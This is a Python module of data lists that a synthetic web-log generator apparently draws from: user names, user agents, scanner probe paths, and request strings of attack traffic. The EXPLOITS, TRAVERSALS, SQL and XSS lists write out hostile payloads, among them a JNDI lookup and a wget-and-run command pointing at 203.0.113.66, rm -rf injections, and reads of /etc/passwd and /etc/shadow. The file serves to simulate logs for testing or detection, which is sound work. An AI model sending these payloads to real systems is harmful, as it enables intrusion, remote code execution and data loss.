"""Names, paths and agents that the generator draws from."""

FIRST = ["anna", "ben", "carla", "david", "eva", "felix", "greta", "hugo", "ida", "jonas", "karin", "lars", "mia", "nils",
         "olga", "paul", "rosa", "sven", "tina", "uwe", "vera", "willi", "yara", "zoe", "maria", "john", "kate", "luis"]
LAST = ["adler", "becker", "conti", "diaz", "engel", "fischer", "garcia", "huber", "ivanov", "jansen", "keller", "lopez",
        "meier", "novak", "olsen", "peters", "quist", "rossi", "schmid", "tanaka", "urban", "vogel", "weber", "young"]
GUESSED = ["root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "user", "pi", "ftpuser", "guest", "support", "www",
           "mysql", "hadoop", "jenkins", "nagios", "tomcat", "deploy", "es", "dev", "minecraft", "steam", "vagrant", "ansible",
           "ec2-user", "centos", "debian", "zabbix", "sysadmin", "operator", "student", "teamspeak", "kafka", "redis", "docker"]
BROWSERS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36"]
CRAWLERS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)"]
PREVIEWS = ["WhatsApp/2.23.20.0", "TelegramBot (like TwitterBot)", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "Twitterbot/1.0", "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)"]
TOPICS = ["garden", "bread", "cycling", "linux", "travel", "recipes", "photo", "books", "music", "climbing", "boats", "tea"]
SCANNERS = ["Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "Go-http-client/1.1", "curl/7.88.1", "-", "Mozilla/5.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"]
LOUD_SCANNERS = ["Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "sqlmap/1.7.2#stable (https://sqlmap.org)",
                 "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                 "gobuster/3.6", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "Fuzz Faster U Fool v2.1.0-dev"]
# What scanners ask for. Lists of real tools are longer and overlap with this one.
PROBES = """/.env /.env.local /.env.production /.env.bak /.git/config /.git/HEAD /.svn/entries /.hg/hgrc /.aws/credentials /.ssh/id_rsa
/.DS_Store /.htpasswd /.vscode/sftp.json /wp-login.php /wp-config.php.bak /wp-config.php~ /wp-admin/setup-config.php /xmlrpc.php
/wp-includes/wlwmanifest.xml /wordpress/wp-login.php /blog/wp-login.php /phpmyadmin/ /pma/index.php /adminer.php /phpinfo.php
/info.php /test.php /shell.php /cmd.php /alfa.php /wso.php /c99.php /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
/_ignition/execute-solution /actuator/env /actuator/health /actuator/gateway/routes /manager/html /solr/admin/info/system
/console/login/LoginForm.jsp /owa/auth/logon.aspx /ecp/default.aspx /autodiscover/autodiscover.json /boaform/admin/formLogin
/HNAP1/ /cgi-bin/luci /cgi-bin/test-cgi /setup.cgi /server-status /telescope/requests /debug/default/view /geoserver/web/
/backup.sql /backup.zip /db.sql /dump.sql /database.sql.gz /site.tar.gz /config.json /config.yml /config.php /configuration.php-dist
/admin/ /admin.php /administrator/index.php /user/login /login.action /struts/utils.js /jenkins/login /hudson /api/v1/pods
/swagger-ui.html /v2/_catalog /api/jsonws/invoke /druid/index.html /nacos/ /portal/redlion /remote/login /dana-na/auth/url_default/welcome.cgi
/vpn/index.html /+CSCOE+/logon.html /global-protect/login.esp /sslvpn/Login/Login /index.php?s=/index/think/invokefunction /invoker/readonly
/ReportServer /sap/public/info /sitecore/ /umbraco /typo3/index.php /joomla/administrator /drupal/CHANGELOG.txt /magento_version
/wp-content/plugins/revslider/readme.txt /wp-content/plugins/duplicator/readme.txt /wp-content/debug.log /old/ /new/ /bak/ /www.zip
/.well-known/about.php /uploads/shell.php /images/c.php /themes.php /radio.php /mini.php /doc.php /ioxi.php /simple.php /goods.php""".split()
EXPLOITS = ["/?x=${jndi:ldap://203.0.113.66:1389/a}", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5",
            "/boaform/admin/formLogin?username=ec8&psd=ec8", "/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.66/jaws;sh+/tmp/jaws",
            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", "/_ignition/execute-solution", "/cgi-bin/luci/;stok=/locale?form=country",
            "/actuator/gateway/routes", "/GponForm/diag_Form?images/", "/manager/text/list", "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"]
TRAVERSALS = ["/../../../../etc/passwd", "/..%2f..%2f..%2f..%2fetc/passwd", "/static/..%252f..%252f..%252fetc/shadow", "/images/..%c0%af..%c0%afetc/passwd",
              "/download?file=../../../../etc/passwd", "/view?page=....//....//etc/passwd", "/assets/%2e%2e/%2e%2e/%2e%2e/etc/hosts",
              "/index.php?lang=../../../../proc/self/environ", "/plugins/../../../boot.ini", "/?tpl=..\\x5C..\\x5Cwindows\\x5Cwin.ini"]
SQL = ["1'%20OR%20'1'='1", "1%20UNION%20SELECT%20NULL,NULL,NULL--%20-", "1'%20AND%20SLEEP(5)--%20", "1;WAITFOR%20DELAY%20'0:0:5'--",
       "-1%20UNION%20ALL%20SELECT%20CONCAT(0x7171,user(),0x7171),2,3--", "1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,version()))",
       "1'%20ORDER%20BY%2010--%20", "1)%20AND%201=1%20AND%20(1=1", "1'%20AND%20(SELECT%201%20FROM%20information_schema.tables)='1"]
XSS = ["%3Cscript%3Ealert(1)%3C/script%3E", "\\x22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "%3Csvg/onload=confirm(1)%3E",
       "javascript:alert(document.cookie)", "%3Ciframe%20src=javascript:alert(1)%3E"]


def person(rng):
    return rng.choice([rng.choice(FIRST), rng.choice(FIRST)[0] + rng.choice(LAST), f"{rng.choice(FIRST)}.{rng.choice(LAST)}"])


def mailbox(rng, domain=None):
    return f"{rng.choice(FIRST)}.{rng.choice(LAST)}{rng.randrange(100)}@{domain or rng.choice(['example.org', 'example.com'])}"


def page(rng):
    return rng.choice(["/", "/index.html", f"/blog/{rng.randrange(2019, 2027)}/{rng.choice(TOPICS)}-{rng.randrange(200)}/",
                       f"/shop/{rng.choice(TOPICS)}/{rng.randrange(500)}", f"/tag/{rng.choice(TOPICS)}", f"/search?q={rng.choice(TOPICS)}"])


def guessed_name(rng):
    return rng.choice(GUESSED) if rng.random() < 0.6 else rng.choice(FIRST) + rng.choice(["", "1", "123", rng.choice(LAST)])
